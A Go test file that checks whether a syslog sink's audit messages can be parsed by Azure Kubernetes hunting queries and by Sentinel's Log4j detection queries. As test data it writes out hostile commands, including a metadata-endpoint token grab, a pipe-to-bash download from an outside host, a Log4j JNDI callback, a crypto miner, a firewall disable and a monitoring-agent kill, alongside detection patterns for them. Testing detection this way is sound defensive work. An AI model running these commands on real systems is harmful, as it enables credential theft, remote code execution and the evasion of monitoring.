package syslog_test

import (
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"vigil/forward"
	"vigil/forward/form"
	"vigil/forward/sinks/syslog"
)

// The queries that people hunt with in Azure: those of Microsoft's guided hunting on
// Kubernetes, which expect auditd's plugins, and of Sentinel's solution for Log4j, which
// expect auoms. What of them depends on our lines is written out here.

// row is a row of the table Syslog.
type row struct{ Facility, ProcessName, SyslogMessage string }

var header = regexp.MustCompile(`^<(\d+)>1 \S+ \S+ (\S+) - \S+ (?:-|\[[^\]]*\]) (.*)$`)

// table is what Azure's agent makes of the messages of a sink.
func table(t *testing.T, f form.Name, change func(*syslog.Options), events ...forward.Event) []row {
	t.Helper()
	_, enc := open(t, f, func(o *syslog.Options) { o.Address = "tcp://127.0.0.1:601"; change(o) })
	var rows []row
	for _, e := range events {
		for rest := enc.Append(nil, e); len(rest) > 0; {
			length, text, _ := strings.Cut(string(rest), " ")
			n, err := strconv.Atoi(length)
			if err != nil {
				t.Fatal(err)
			}
			m := header.FindStringSubmatch(text[:n])
			if m == nil {
				t.Fatalf("no message: %q", text[:n])
			}
			pri, _ := strconv.Atoi(m[1])
			facility := map[int]string{1: "user", 10: "authpriv"}[pri>>3]
			rows = append(rows, row{facility, m[2], m[3]})
			rest = []byte(text[n:])
		}
	}
	return rows
}

// column of a parse operator; "*" is one without a name.
type column string

// parse is KQL's operator of that name, kind=simple: texts must follow each other, a
// column takes as little as it can, the last one the rest. nil: no match.
func parse(text string, pattern ...any) map[string]string {
	var b strings.Builder
	b.WriteString("(?s)^")
	var names []string
	for i, p := range pattern {
		switch p := p.(type) {
		case string:
			b.WriteString(regexp.QuoteMeta(p))
		case column:
			lazy := "?"
			if i == len(pattern)-1 {
				lazy = ""
			}
			b.WriteString("(.*" + lazy + ")")
			names = append(names, string(p))
		}
	}
	b.WriteString("$")
	m := regexp.MustCompile(b.String()).FindStringSubmatch(text)
	if m == nil {
		return nil
	}
	got := map[string]string{}
	for i, n := range names {
		got[n] = m[i+1]
	}
	return got
}

// extractAll is KQL's function: the groups of each match.
func extractAll(pattern *regexp.Regexp, text string) (all [][]string) {
	for _, m := range pattern.FindAllStringSubmatch(text, -1) {
		all = append(all, m[1:])
	}
	return all
}

var (
	bare   = regexp.MustCompile(`([\w\d]+)=([^ ]+)`)
	quoted = regexp.MustCompile(`([\w\d]+)="([^"]+)"`)
)

// bag is make_bag: of a key that comes again it keeps the first or the last, it does
// not say which.
func bag(pairs [][]string, last bool) map[string]string {
	m := map[string]string{}
	for _, p := range pairs {
		if _, ok := m[p[0]]; !ok || last {
			m[p[0]] = p[1]
		}
	}
	return m
}

// eventInfo is how all queries of the notebook begin: a bag of records by type, each a
// bag of fields, for each event.
func eventInfo(rows []row, facility, process string, last bool) map[string]map[string]map[string]string {
	events := map[string]map[string]map[string]string{}
	for _, r := range rows {
		if r.Facility != facility || r.ProcessName != process {
			continue
		}
		p := parse(r.SyslogMessage, column("*"), "type=", column("type"), " msg=audit(", column("EventID"), "): ", column("info"))
		if p == nil {
			continue
		}
		if events[p["EventID"]] == nil {
			events[p["EventID"]] = map[string]map[string]string{}
		}
		if _, ok := events[p["EventID"]][p["type"]]; !ok || last {
			pairs := slices.Concat(extractAll(bare, p["info"]), extractAll(quoted, p["info"]))
			events[p["EventID"]][p["type"]] = bag(pairs, last)
		}
	}
	return events
}

// run makes an event of a command that runs as an administrator does it.
func run(t *testing.T, serial, exe string, args ...string) forward.Event {
	t.Helper()
	stamp := " msg=audit(1700000000.123:" + serial + "): "
	execve := "type=EXECVE" + stamp + "argc=" + strconv.Itoa(len(args))
	for i, a := range args {
		execve += " a" + strconv.Itoa(i) + "="
		if strings.ContainsAny(a, " \"") {
			for _, b := range []byte(a) {
				execve += strings.ToUpper(strconv.FormatInt(int64(b)+0x100, 16)[1:])
			}
		} else {
			execve += `"` + a + `"`
		}
	}
	path := "type=PATH" + stamp + `item=0 name="` + exe + `" inode=1 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0`
	return event(t,
		"type=SYSCALL"+stamp+`arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=1 ppid=41 pid=42 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="x" exe="`+exe+`" subj=unconfined key="exec"`+
			"\x1dARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\" GID=\"root\" EUID=\"root\" SUID=\"root\" FSUID=\"root\" EGID=\"root\" SGID=\"root\" FSGID=\"root\" CONTAINER_ID=\"3f2a91c0de127b54e0f8d6c2b9a7e5d4\"",
		execve, "type=CWD"+stamp+`cwd="/root"`, path+"\x1dOUID=\"root\" OGID=\"root\"", "type=PROCTITLE"+stamp+"proctitle=6C73")
}

const token = "http://169.254.169.254/metadata/identity/oauth2/token?resource=x"

// TestKubernetesHunting: the six queries find the command, whichever of equal keys
// make_bag keeps.
func TestKubernetesHunting(t *testing.T) {
	events := []forward.Event{run(t, "1", "/usr/bin/curl", "curl", "-H", "Metadata: true", token), run(t, "2", "/usr/bin/ls", "ls")}
	for _, c := range []struct {
		facility, process string
		change            func(*syslog.Options)
	}{
		{"authpriv", "audispd", func(o *syslog.Options) { o.Profile = "audispd" }},
		{"user", "audispd", func(o *syslog.Options) { o.Profile, o.Facility = "audispd", "user" }},
		{"user", "audisp-syslog", func(o *syslog.Options) { o.Profile = "audisp_syslog" }},
	} {
		for _, f := range []form.Name{form.Enriched, form.Raw} {
			rows := table(t, f, c.change, events...)
			for _, last := range []bool{false, true} {
				testHunting(t, eventInfo(rows, c.facility, c.process, last), last)
			}
		}
	}
}

func testHunting(t *testing.T, events map[string]map[string]map[string]string, last bool) {
	t.Helper()
	if len(events) != 2 {
		t.Fatalf("%d events", len(events))
	}
	programs := map[string]int{} // stack counting, and the first step of its anomalies and distribution
	for _, e := range events {
		if e["SYSCALL"]["syscall"] == "59" {
			programs[strings.Trim(e["SYSCALL"]["exe"], `"`)]++
		}
	}
	if programs["/usr/bin/curl"] != 1 || programs["/usr/bin/ls"] != 1 {
		t.Errorf("programs %v", programs)
	}
	e := events["1700000000.123:1"]
	if !last { // the parse of arguments wants the quotes that the first of the two expressions leaves
		var line []string
		for i := range 4 {
			p := parse(e["EXECVE"]["a"+strconv.Itoa(i)], `"`, column("Argument"), `"`)
			line = append(line, p["Argument"])
		}
		if line[0] != "curl" || line[3] != token {
			t.Errorf("command line %q", line)
		}
	}
	if !strings.Contains(e["PATH"]["name"], "curl") || strings.Trim(e["CWD"]["cwd"], `"`) != "/root" {
		t.Errorf("path %q in %q", e["PATH"]["name"], e["CWD"]["cwd"])
	}
	var args []string
	for key, value := range e["EXECVE"] {
		if key != "argc" {
			args = append(args, value)
		}
	}
	joined := strings.Join(args, " ")
	if !strings.Contains(joined, "curl") || !strings.Contains(joined, "http://169.254.169.254/metadata/identity/oauth2/token") || len(args) != 4 {
		t.Errorf("arguments %q", args)
	}
}

// sentinel is how all queries of the Log4j solution begin.
func sentinel(rows []row) (found []map[string]string) {
	for _, r := range rows {
		if r.Facility != "user" || !strings.Contains(r.SyslogMessage, "AUOMS_EXECVE") {
			continue
		}
		p := parse(r.SyslogMessage, "type=", column("EventType"), " audit(", column("*"), "): ", column("EventData"))
		if p == nil || !strings.EqualFold(p["EventType"], "AUOMS_EXECVE") {
			continue
		}
		got := parse(p["EventData"], column("*"), "syscall=", column("syscall"), " syscall_r=", column("*"), " success=", column("success"), " exit=", column("exit"),
			" a0", column("*"), " ppid=", column("ppid"), " pid=", column("pid"), " audit_user=", column("audit_user"), " auid=", column("auid"),
			" user=", column("user"), " uid=", column("uid"), " group=", column("group"), " gid=", column("gid"), "effective_user=", column("effective_user"),
			" euid=", column("euid"), " set_user=", column("set_user"), " suid=", column("suid"), " filesystem_user=", column("filesystem_user"), " fsuid=", column("fsuid"),
			" effective_group=", column("effective_group"), " egid=", column("egid"), " set_group=", column("set_group"), " sgid=", column("sgid"),
			" filesystem_group=", column("filesystem_group"), " fsgid=", column("fsgid"), " tty=", column("tty"), " ses=", column("ses"),
			` comm="`, column("comm"), `" exe="`, column("exe"), `"`, column("*"), `cwd="`, column("cwd"), `"`, column("*"), `name="`, column("name"), `"`, column("*"),
			"cmdline=", column("cmdline"))
		if got == nil {
			continue
		}
		got["cmdline"] = regexp.MustCompile(`redactors=.*$`).ReplaceAllString(got["cmdline"], "")
		found = append(found, got)
	}
	return found
}

// TestSentinelHunting: each of the six queries finds its command and no other.
func TestSentinelHunting(t *testing.T) {
	encoded := "Y3VybCBodHRwOi8vZXZpbA=="
	commands := []forward.Event{
		run(t, "1", "/usr/bin/curl", "curl", "http://192.0.2.7:1389/Basic/Command/Base64/"+encoded),
		run(t, "2", "/usr/bin/docker", "docker", "run", "xmr-miner"),
		run(t, "3", "/usr/sbin/ufw", "ufw", "disable"),
		run(t, "4", "/usr/bin/java", "java", "-jar", "JNDI-Injection-Exploit.jar"),
		run(t, "5", "/usr/bin/pkill", "pkill", "-f", "omsagent"),
		run(t, "6", "/usr/bin/bash", "bash", "-c", "curl -s http://192.0.2.7/x | bash"),
	}
	queries := []func(exe, cmdline string) bool{
		func(exe, cmdline string) bool {
			return strings.Contains(exe, "curl") && strings.Contains(cmdline, "/Basic/Command/Base64/") &&
				regexp.MustCompile(`((?:[A-Za-z0-9+/-]{4})*(?:[A-Za-z0-9+/-]{2}==|[A-Za-z0-9+/-]{3}=|[A-Za-z0-9+/-]{4}))`).FindString(parse(cmdline, column("*"), "Base64/", column("x"))["x"]) == encoded
		},
		func(exe, cmdline string) bool {
			return strings.Contains(exe, "docker") && strings.Contains(cmdline, "xmr-miner")
		},
		func(_, cmdline string) bool { return strings.Contains(cmdline, "ufw disable") },
		func(exe, cmdline string) bool {
			return strings.Contains(exe, "java") && strings.Contains(cmdline, "JNDI-Injection-Exploit")
		},
		func(exe, cmdline string) bool {
			return strings.Contains(exe, "pkill") && strings.Contains(cmdline, "omsagent")
		},
		func(exe, cmdline string) bool {
			return strings.HasSuffix(exe, "bash") && regexp.MustCompile(`[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}`).MatchString(cmdline) && strings.Contains(cmdline, "curl")
		},
	}
	rows := table(t, form.AUOMS, func(o *syslog.Options) { o.Profile = "auoms" }, commands...)
	found := sentinel(rows)
	if len(found) != len(commands) {
		t.Fatalf("%d of %d lines were understood: %q", len(found), len(commands), rows)
	}
	for i, query := range queries {
		for j, f := range found {
			if query(f["exe"], f["cmdline"]) != (i == j) {
				t.Errorf("query %d on command %d: %q", i, j, f)
			}
		}
	}
	want := map[string]string{"syscall": "execve", "success": "yes", "exit": "0", "ppid": "41", "pid": "42", "audit_user": "alice", "auid": "1000", "user": "root", "uid": "0",
		"gid": "0 ", "fsgid": "0", "tty": "pts0", "ses": "3", "comm": "x", "exe": "/usr/bin/curl", "cwd": "/root", "name": "/usr/bin/curl"}
	for k, v := range want {
		if found[0][k] != v {
			t.Errorf("%s is %q, want %q", k, found[0][k], v)
		}
	}
	if rows[0].ProcessName != "auoms" {
		t.Errorf("the program is %q", rows[0].ProcessName)
	}
}

// TestSentinelIsNotMisled: what a process chooses does not end the command line before
// its end, nor stand for another field.
func TestSentinelIsNotMisled(t *testing.T) {
	e := run(t, "1", "/tmp/cmdline=ls", "x", "redactors=", "containerid=", "y redactors= z", "pkill omsagent")
	f := sentinel(table(t, form.AUOMS, func(o *syslog.Options) { o.Profile = "auoms" }, e))
	if len(f) != 1 || !strings.Contains(f[0]["cmdline"], "pkill omsagent") || !strings.HasPrefix(f[0]["cmdline"], `"x `) || f[0]["name"] != "/tmp/cmdline=ls" {
		t.Errorf("got %q", f)
	}
}
